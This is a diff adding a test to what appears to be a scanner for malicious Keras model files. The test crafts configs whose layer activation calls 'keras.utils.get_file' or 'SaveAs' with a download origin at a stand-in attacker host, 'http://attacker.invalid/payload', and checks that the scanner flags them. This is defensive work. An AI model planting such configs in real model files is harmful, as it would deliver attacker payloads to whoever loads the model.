@@ -190,6 +190,33 @@ def test_scan_finds_functions_outside_modeling_code(
     assert finding.reason.startswith(reason)
 
 
+@pytest.mark.parametrize(
+    ("module", "class_name", "reason"),
+    [
+        # Keras resolves any name in a module, so a "class" can be a function by another name.
+        ("keras.utils", "get_file", "uses 'get_file' from module 'keras.utils', which is not"),
+        ("keras", "get_file", "uses 'get_file' from module 'keras', which is not modeling code"),
+        ("keras.src.saving", "SaveAs", "uses 'SaveAs' from module 'keras.src.saving', which is"),
+    ],
+)
+def test_scan_finds_keras_objects_outside_modeling_code(
+    tmp_path, model_files, module, class_name, reason
+):
+    def edit(config):
+        config["config"]["layers"][1]["config"]["activation"] = {
+            "module": module,
+            "class_name": class_name,
+            "config": {"fname": "x", "origin": "http://attacker.invalid/payload"},
+            "registered_name": None,
+        }
+        return config
+
+    path = rewrite_keras_config(model_files["a"], tmp_path / "obj.keras", edit)
+    (finding,) = scan(path)
+    assert (finding.path, finding.class_name) == ("functional/dense", class_name)
+    assert finding.reason.startswith(reason)
+
+
 def test_scan_finds_bytecode_hidden_outside_a_lambda(tmp_path, model_files, made):
     lam = read_model_file(made["nested.keras"]).config["config"]["layers"][1]["config"]["layers"]
     code = next(x for x in lam if x["class_name"] == "Lambda")["config"]["function"]
